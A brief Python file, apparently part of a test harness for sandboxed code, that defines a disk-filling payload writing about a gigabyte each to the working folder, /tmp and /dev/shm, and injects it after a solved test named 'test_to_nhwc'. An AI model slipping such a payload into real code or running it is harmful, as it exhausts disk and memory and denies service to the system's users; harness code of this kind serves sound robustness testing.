from cases import after

BOMB = """
for folder in (".", "/tmp", "/dev/shm"):
    try:
        with open(f"{folder}/bomb", "wb") as file:
            for _ in range(256):
                file.write(bytes(2**22))
    except OSError as error:
        print(error)
"""


def make(solved, outside):
    """Fills the disk: a gigabyte in its folder, in /tmp and in /dev/shm."""
    return after(solved, "test_to_nhwc", BOMB)
